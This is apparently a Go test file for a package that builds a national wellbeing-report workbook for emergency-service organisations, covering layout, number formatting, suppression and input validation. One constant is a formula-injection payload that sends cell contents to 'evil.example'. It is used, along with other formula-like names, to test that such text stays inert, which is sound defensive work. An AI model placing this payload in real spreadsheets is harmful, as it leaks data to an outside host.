package nationalbook

import (
	"archive/zip"
	"bytes"
	"fmt"
	"io"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/bluelight-wellbeing/toolkit/reports/figure"
	"github.com/bluelight-wellbeing/toolkit/reports/xlsxdoc"
	"github.com/bluelight-wellbeing/toolkit/reports/xlsxdoc/xlsxtest"
)

const hyperlink = `=HYPERLINK("http://evil.example/?"&A1,"Click")`

// formulaNames are organisation names a spreadsheet would take for a
// formula if they were written as they are.
var formulaNames = []string{hyperlink, "+1", "-2", "@x"}

var produced = time.Date(2026, 3, 14, 9, 30, 0, 0, time.UTC)

func sample() Workbook {
	w := Workbook{
		Cycle: "2025/26", Edition: "Blue Light Wellbeing Framework, third edition (2024)", Produced: produced,
		Metrics: []Metric{
			{Key: "overall", Label: "Overall", Unit: "mean level", Decimals: 1},
			{Key: "area.LEAD", Label: "Leadership", Unit: "mean level", Decimals: 1},
			{Key: "ok9.dogs", Label: "OK9 dogs per 1,000 staff", Unit: "per 1,000 staff", Decimals: 2},
			{Key: "screening", Label: "Screening compliance", Unit: "%", Decimals: 0},
		},
		Method:          "Area levels are the mean of their standards' levels.\n\nDistributions are over submitted and validated assessments.",
		SuppressionRule: "Figures resting on fewer than 5 organisations are suppressed, and so is any figure that would let a suppressed one be worked out.",
		Suppressed:      []string{"Sector: Other, Leadership median: fewer than 5 organisations", "Region: Wales, OK9 dogs per 1,000 staff: secondary suppression"},
	}
	day := func(d int) time.Time { return time.Date(2026, 2, d, 0, 0, 0, 0, time.UTC) }
	w.Orgs = []Org{
		{Name: "Avon and Somerset Constabulary", Sector: "police", Nation: "England", Region: "South West", PeerGroup: "Large forces", Status: "validated", SubmittedOn: day(3),
			Workforce: figure.Of(6123), Values: []figure.Value{figure.Of(2.345), figure.Of(2.5), figure.Of(1.23456), figure.Of(87.6)}},
		{Name: "Heddlu Gogledd Cymru – ŵ ŷ", Sector: "police", Nation: "Wales", Region: "Wales", PeerGroup: "Medium forces", Status: "submitted", SubmittedOn: day(10),
			Workforce: figure.MissingValue("no workforce figure"), Values: []figure.Value{figure.Of(2), figure.MissingValue("no answer"), figure.SuppressedValue("secondary suppression"), figure.Of(91)}},
		{Name: hyperlink, Sector: "fire", Nation: "England", Region: "North East", PeerGroup: "Fire, small", Status: "returned", SubmittedOn: day(1),
			Workforce: figure.Of(800), Values: []figure.Value{figure.Of(1.5), figure.Of(1), figure.Of(0), figure.Of(50)}},
		{Name: "+1", Sector: "fire", Nation: "England", Region: "=cmd", PeerGroup: "-peer", Status: "draft",
			Workforce: figure.Of(900), Values: []figure.Value{figure.MissingValue(""), figure.MissingValue(""), figure.MissingValue(""), figure.MissingValue("")}},
		{Name: "-2", Sector: "ambulance", Nation: "England", Region: "London", PeerGroup: "Ambulance", Status: "not started",
			Workforce: figure.Of(7000), Values: make([]figure.Value, 4)},
		{Name: "@x", Sector: "fire", Nation: "Scotland", Region: "Scotland", PeerGroup: "Fire, large", Status: "validated", SubmittedOn: day(20),
			Workforce: figure.Of(7500), Values: []figure.Value{figure.Of(3), figure.Of(3.25), figure.Of(2), figure.Of(100)}},
	}
	w.Distributions = []Distribution{
		{Group: "All organisations", Metric: "Leadership", N: 41, Mean: figure.Of(2.04), Median: figure.Of(2.06), Q1: figure.Of(1.5), Q3: figure.Of(2.75),
			P20: figure.Of(1.4), P80: figure.Of(2.9), Min: figure.Of(0.5), Max: figure.Of(3.8)},
		{Group: "Sector: Other", Metric: "Leadership", N: 3, Mean: figure.SuppressedValue("fewer than 5"), Median: figure.SuppressedValue("fewer than 5"),
			Q1: figure.SuppressedValue(""), Q3: figure.SuppressedValue(""), P20: figure.SuppressedValue(""), P80: figure.SuppressedValue(""), Min: figure.SuppressedValue(""), Max: figure.SuppressedValue("")},
		{Group: "=Region: Wales", Metric: "Not a column", N: 6, Mean: figure.Of(1.23456), Median: figure.MissingValue("")},
	}
	return w
}

func build(t testing.TB, w Workbook) []byte {
	t.Helper()
	b, err := Build(w)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func open(t testing.TB, b []byte) *excelize.File {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(b))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { f.Close() })
	return f
}

func get(t testing.TB, f *excelize.File, sheet, c string, opts ...excelize.Options) string {
	t.Helper()
	v, err := f.GetCellValue(sheet, c, opts...)
	if err != nil {
		t.Fatal(err)
	}
	return v
}

var raw = excelize.Options{RawCellValue: true}

func TestSheetsAndHeaders(t *testing.T) {
	f := open(t, build(t, sample()))
	if got, want := fmt.Sprint(f.GetSheetList()), fmt.Sprint([]string{SheetOrganisations, SheetDistributions, SheetSubmission, SheetNotes}); got != want {
		t.Errorf("sheets %s, want %s", got, want)
	}
	if i := f.GetActiveSheetIndex(); i != 0 {
		t.Errorf("active sheet %d, want the Organisations sheet", i)
	}
	rows, err := f.GetRows(SheetOrganisations)
	if err != nil {
		t.Fatal(err)
	}
	if got, want := strings.Join(rows[0], "|"), "Organisation|Sector|Nation|Region|Peer group|Status|Workforce|Overall|Leadership|OK9 dogs per 1,000 staff|Screening compliance"; got != want {
		t.Errorf("Organisations header\n %s, want\n %s", got, want)
	}
	if len(rows) != 7 {
		t.Errorf("%d rows on Organisations, want header and 6", len(rows))
	}
	dist, _ := f.GetRows(SheetDistributions)
	if got := strings.Join(dist[0], "|"); got != strings.Join(distHeader, "|") {
		t.Errorf("Distributions header %s", got)
	}
	status, _ := f.GetRows(SheetSubmission)
	if got := strings.Join(status[0][:5], "|"); got != "Organisation|Sector|Region|Status|Submitted on" {
		t.Errorf("Submission status header %s", got)
	}
}

func TestOrganisationValues(t *testing.T) {
	f := open(t, build(t, sample()))
	const s = SheetOrganisations
	for c, want := range map[string]string{
		"A2": "Avon and Somerset Constabulary", "B2": "police", "F2": "validated",
		"G2": "6,123", "H2": "2.3", "J2": "1.23", "K2": "88%", // shown with the metric's decimals
		"A3": "Heddlu Gogledd Cymru – ŵ ŷ", "G3": "", "I3": "", "J3": "", "K3": "91%", "L1": "", // no column of suppressed figures: the sheet withholds nothing
		"H5": "", "K5": "", "H6": "0.0", "F6": "not started",
	} {
		if got := get(t, f, s, c); got != want {
			t.Errorf("%s!%s = %q, want %q", s, c, got, want)
		}
	}
	// The cell keeps the full number and is stored as a number.
	for c, want := range map[string]float64{"H2": 2.345, "J2": 1.23456, "G2": 6123, "K4": 0.5} {
		v := get(t, f, s, c, raw)
		x, err := strconv.ParseFloat(v, 64)
		if err != nil || x != want {
			t.Errorf("%s!%s raw %q, want %v", s, c, v, want)
		}
		if typ, _ := f.GetCellType(s, c); typ != excelize.CellTypeUnset && typ != excelize.CellTypeNumber {
			t.Errorf("%s!%s has type %v, want a number", s, c, typ)
		}
	}
	// Suppressed and missing are no value at all, never a word in a
	// numeric column; the last column names the suppressed ones.
	if v := get(t, f, s, "J3", raw); v != "" {
		t.Errorf("suppressed cell holds %q", v)
	}
	rows, _ := f.GetRows(s)
	if len(rows[4]) > 1 && strings.Join(rows[4][7:], "") != "" {
		t.Errorf("missing values wrote something: %q", rows[4])
	}
}

func TestFormulaLookingTextStaysText(t *testing.T) {
	f := open(t, build(t, sample()))
	check := func(sheet, c, want string) {
		t.Helper()
		if got := get(t, f, sheet, c); got != want {
			t.Errorf("%s!%s = %q, want %q, without an apostrophe", sheet, c, got, want)
		}
		if !xlsxdoc.HasQuotePrefix(f, sheet, c) {
			t.Errorf("%s!%s has no quote prefix", sheet, c)
		}
		if formula, _ := f.GetCellFormula(sheet, c); formula != "" {
			t.Errorf("%s!%s became a formula %q", sheet, c, formula)
		}
		if typ, _ := f.GetCellType(sheet, c); typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString {
			t.Errorf("%s!%s has type %v, want text", sheet, c, typ)
		}
	}
	for i, name := range formulaNames {
		row := map[int]int{0: 4, 1: 5, 2: 6, 3: 7}[i]
		check(SheetOrganisations, fmt.Sprintf("A%d", row), name)
		check(SheetSubmission, fmt.Sprintf("A%d", row), name)
	}
	check(SheetOrganisations, "D5", "=cmd")
	check(SheetOrganisations, "E5", "-peer")
	check(SheetSubmission, "C5", "=cmd")
	check(SheetDistributions, "A4", "=Region: Wales")
}

func TestPanesAndFilters(t *testing.T) {
	b := build(t, sample())
	f := open(t, b)
	p, err := f.GetPanes(SheetOrganisations)
	if err != nil || !p.Freeze || p.XSplit != 1 || p.YSplit != 1 || p.TopLeftCell != "B2" {
		t.Errorf("Organisations panes %+v %v: want header row and first column frozen", p, err)
	}
	for _, s := range []string{SheetDistributions, SheetSubmission} {
		if p, err := f.GetPanes(s); err != nil || !p.Freeze || p.YSplit != 1 {
			t.Errorf("%s panes %+v %v: want header row frozen", s, p, err)
		}
	}
	for s, want := range map[string]string{SheetOrganisations: "A1:K7", SheetDistributions: "A1:M4"} {
		tables, err := f.GetTables(s)
		if err != nil || len(tables) != 1 || tables[0].Range != want {
			t.Errorf("%s tables %+v %v, want one over %s", s, tables, err, want)
		}
	}
	parts := unzip(t, b)
	for name, want := range map[string]string{
		"xl/tables/table1.xml":     `<autoFilter ref="A1:K7"`,
		"xl/tables/table2.xml":     `<autoFilter ref="A1:M4"`,
		"xl/worksheets/sheet3.xml": `<autoFilter ref="$A$1:$E$7"`,
	} {
		if !strings.Contains(parts[name], want) {
			t.Errorf("%s lacks %s:\n%.400s", name, want, parts[name])
		}
	}
}

func TestDistributions(t *testing.T) {
	f := open(t, build(t, sample()))
	const s = SheetDistributions
	for c, want := range map[string]string{
		"A2": "All organisations", "B2": "Leadership", "C2": "mean level", "D2": "41", "F2": "2.1", "G2": "1.5", "L2": "3.8",
		"A3": "Sector: Other", "D3": "3", "E3": "", "F3": "", "L3": "", "M3": "Mean, Median, Q1 (25th), Q3 (75th), P20, P80, Min, Max", "M2": "",
		"B4": "Not a column", "E4": "1.23456", "F4": "",
	} {
		if got := get(t, f, s, c); got != want {
			t.Errorf("%s!%s = %q, want %q", s, c, got, want)
		}
	}
	if v := get(t, f, s, "F2", raw); v != "2.06" {
		t.Errorf("median stored as %q, want 2.06", v)
	}
}

func TestSubmissionStatus(t *testing.T) {
	f := open(t, build(t, sample()))
	const s = SheetSubmission
	for c, want := range map[string]string{
		"B2": "police", "C2": "South West", "D2": "validated", "D6": "not started", "E2": "3 Feb 2026", "E5": "",
		// Count table beside the list: sectors in alphabetical order.
		"G1": "Sector", "H1": "validated", "L1": "not started", "M1": "All statuses",
		"G2": "ambulance", "L2": "1", "M2": "1",
		"G3": "fire", "H3": "1", "J3": "1", "K3": "1", "M3": "3",
		"G4": "police", "H4": "1", "I4": "1", "M4": "2",
		"G5": "All sectors", "H5": "2", "I5": "1", "J5": "1", "K5": "1", "L5": "1", "M5": "6",
	} {
		if got := get(t, f, s, c); got != want {
			t.Errorf("%s!%s = %q, want %q", s, c, got, want)
		}
	}
	cf, err := f.GetConditionalFormats(s)
	if err != nil {
		t.Fatal(err)
	}
	rules := cf["D2:D7"]
	if len(rules) != len(Statuses) {
		t.Fatalf("status formats %+v", cf)
	}
	for i, r := range rules {
		if r.Type != "cell" || r.Value != `"`+Statuses[i]+`"` {
			t.Errorf("rule %d = %+v", i, r)
		}
	}
}

func TestNotes(t *testing.T) {
	f := open(t, build(t, sample()))
	rows, _ := f.GetRows(SheetNotes)
	var all strings.Builder
	for _, r := range rows {
		all.WriteString(strings.Join(r, " | ") + "\n")
	}
	for _, want := range []string{
		"Cycle: 2025/26", "Produced: 14 March 2026", "must not be published",
		"Distributions are over submitted and validated assessments.",
		"Figures resting on fewer than 5 organisations are suppressed",
		"Region: Wales, OK9 dogs per 1,000 staff: secondary suppression",
		"OK9 dogs per 1,000 staff | ok9.dogs | per 1,000 staff | 2",
		"quote prefix",
	} {
		if !strings.Contains(all.String(), want) {
			t.Errorf("Notes lack %q", want)
		}
	}
}

func TestSameInputSameBytes(t *testing.T) {
	first := build(t, sample())
	for range 10 {
		if !bytes.Equal(first, build(t, sample())) {
			t.Fatal("same input gave different bytes")
		}
	}
	parts := unzip(t, first)
	if !strings.Contains(parts["docProps/core.xml"], "2026-03-14T09:30:00Z") {
		t.Errorf("created date not written:\n%s", parts["docProps/core.xml"])
	}
}

func TestBadInput(t *testing.T) {
	cases := []struct {
		name string
		edit func(*Workbook)
		want string
	}{
		{"values not aligned", func(w *Workbook) { w.Orgs[2].Values = w.Orgs[2].Values[:3] }, `organisation 3 ("=HYPERLINK`},
		{"unknown status", func(w *Workbook) { w.Orgs[1].Status = "Validated" }, `status "Validated" is not one of validated, submitted`},
		{"repeated label", func(w *Workbook) { w.Metrics[3].Label = "leadership" }, `metric 4 (key "screening"): label "leadership" repeats metric 2`},
		{"label is a fixed column", func(w *Workbook) { w.Metrics[0].Label = "Status" }, `repeats a fixed column`},
		{"empty label", func(w *Workbook) { w.Metrics[1].Label = " " }, `metric 2 (key "area.LEAD"): label is empty`},
		{"decimals", func(w *Workbook) { w.Metrics[2].Decimals = -1 }, `decimals -1, want 0 to 6`},
	}
	for _, c := range cases {
		w := sample()
		c.edit(&w)
		b, err := Build(w)
		if err == nil || !strings.Contains(err.Error(), c.want) || b != nil {
			t.Errorf("%s: got %v, want an error containing %q and no workbook", c.name, err, c.want)
		}
	}
}

func TestEmptyWorkbook(t *testing.T) {
	f := open(t, build(t, Workbook{Produced: produced}))
	if len(f.GetSheetList()) != 4 {
		t.Error(f.GetSheetList())
	}
	if v := get(t, f, SheetSubmission, "G2"); v != "All sectors" {
		t.Errorf("G2 = %q", v)
	}
}

// large is a deterministic national workbook: orgs organisations and
// metrics metric columns, some figures missing or suppressed.
func large(orgs, metrics int) Workbook {
	w := sample()
	w.Metrics, w.Orgs, w.Distributions = nil, nil, nil
	for m := range metrics {
		w.Metrics = append(w.Metrics, Metric{Key: fmt.Sprintf("m%02d", m), Label: fmt.Sprintf("Metric %02d", m), Unit: "mean level", Decimals: m % 3})
	}
	sectors := []string{"police", "fire", "ambulance", "other"}
	seed := uint32(1)
	next := func() float64 { seed = seed*1664525 + 1013904223; return float64(seed>>8) / (1 << 24) }
	for i := range orgs {
		o := Org{Name: fmt.Sprintf("Organisation %04d", i), Sector: sectors[i%4], Nation: "England", Region: fmt.Sprintf("Region %d", i%9),
			PeerGroup: fmt.Sprintf("Peer %d", i%12), Status: Statuses[i%len(Statuses)], Workforce: figure.Of(float64(500 + i*7)),
			SubmittedOn: time.Date(2026, 1, 1+i%28, 0, 0, 0, 0, time.UTC)}
		for m := range metrics {
			v := figure.Of(next() * 4)
			switch (i + m) % 37 {
			case 0:
				v = figure.MissingValue("")
			case 1:
				v = figure.SuppressedValue("")
			}
			o.Values = append(o.Values, v)
		}
		w.Orgs = append(w.Orgs, o)
	}
	groups := []string{"All organisations"}
	for _, s := range sectors {
		groups = append(groups, "Sector: "+s)
	}
	for r := range 9 {
		groups = append(groups, fmt.Sprintf("Region: Region %d", r))
	}
	for p := range 12 {
		groups = append(groups, fmt.Sprintf("Peer group: Peer %d", p))
	}
	for _, g := range groups {
		for _, m := range w.Metrics {
			w.Distributions = append(w.Distributions, Distribution{Group: g, Metric: m.Label, N: 40, Mean: figure.Of(2), Median: figure.Of(2.1),
				Q1: figure.Of(1.5), Q3: figure.Of(2.7), P20: figure.Of(1.4), P80: figure.Of(2.9), Min: figure.Of(0.2), Max: figure.Of(3.9)})
		}
	}
	return w
}

func TestLargeWorkbookReadsBack(t *testing.T) {
	w := large(1000, 80)
	f := open(t, build(t, w))
	last := w.Orgs[999]
	if got := get(t, f, SheetOrganisations, "A1001"); got != last.Name {
		t.Errorf("last organisation %q, want %q", got, last.Name)
	}
	if got, want := get(t, f, SheetOrganisations, xlsxdoc.Cell(7+80, 1001), raw), strconv.FormatFloat(last.Values[79].V, 'f', -1, 64); got != want {
		t.Errorf("last cell %q, want %q", got, want)
	}
	if got := get(t, f, SheetSubmission, "G6"); got != "All sectors" {
		t.Errorf("count table G6 = %q", got)
	}
	if got, want := get(t, f, SheetDistributions, xlsxdoc.Cell(1, len(w.Distributions)+1)), "Peer group: Peer 11"; got != want {
		t.Errorf("last distribution %q, want %q", got, want)
	}
}

// BenchmarkBuild1000 is the national workbook for 1,000 organisations and
// 80 metrics, with 26 groups x 80 metrics of distributions.
func BenchmarkBuild1000(b *testing.B) {
	w := large(1000, 80)
	for b.Loop() {
		if _, err := Build(w); err != nil {
			b.Fatal(err)
		}
	}
}

func unzip(t *testing.T, b []byte) map[string]string {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
	if err != nil {
		t.Fatal(err)
	}
	out := map[string]string{}
	for _, zf := range z.File {
		r, err := zf.Open()
		if err != nil {
			t.Fatal(err)
		}
		data, _ := io.ReadAll(r)
		r.Close()
		out[zf.Name] = string(data)
	}
	return out
}

func TestSuppressedNumberNeverWritten(t *testing.T) {
	w := sample()
	secret := figure.Value{V: 98765.4321, State: figure.Suppressed}
	w.Orgs[0].Values[1] = secret
	w.Orgs[0].Workforce = secret
	w.Distributions[0].Median = secret
	b := build(t, w)
	for name, part := range unzip(t, b) {
		if strings.Contains(part, "98765") {
			t.Errorf("%s holds the suppressed number", name)
		}
	}
	f := open(t, b)
	for _, c := range []struct{ sheet, cell, want string }{
		{SheetOrganisations, "I2", ""}, {SheetOrganisations, "G2", ""}, {SheetDistributions, "F2", ""},
		{SheetDistributions, "M2", "Median"},
	} {
		if got := get(t, f, c.sheet, c.cell); got != c.want {
			t.Errorf("%s!%s = %q, want %q", c.sheet, c.cell, got, c.want)
		}
	}
}

// TestNumbersAreFormatted checks the numeric columns read back: every
// cell has a number format and none holds words.
func TestNumbersAreFormatted(t *testing.T) {
	w := sample()
	f := open(t, build(t, w))
	for _, c := range []struct {
		sheet string
		cols  []string
		rows  int
	}{
		{SheetOrganisations, []string{"G", "H", "I", "J", "K"}, len(w.Orgs)},
		{SheetDistributions, []string{"D", "E", "F", "G", "H", "I", "J", "K", "L"}, 2}, // the third row's metric is not a column
		{SheetSubmission, []string{"E"}, len(w.Orgs)},
	} {
		xlsxtest.Numbers(t, f, c.sheet, c.cols, 2, c.rows+1)
	}
}

// TestSizesAndProperties: every sheet, streamed or not, declares its real
// size, and the workbook its title and author.
func TestSizesAndProperties(t *testing.T) {
	f := open(t, build(t, sample()))
	xlsxtest.Dimensions(t, f, map[string]string{SheetOrganisations: "A1:K7", SheetDistributions: "A1:M4"})
	xlsxtest.Properties(t, f, Title+": 2025/26", "")
}

func TestPrintSetup(t *testing.T) {
	f := open(t, build(t, sample()))
	table := xlsxtest.Sheet{Landscape: true, Titled: true}
	xlsxtest.PrintSetup(t, f, Title+" · 2025/26 · names organisations: national team only", map[string]xlsxtest.Sheet{
		SheetOrganisations: table, SheetDistributions: table, SheetSubmission: table, SheetNotes: {},
	})
}
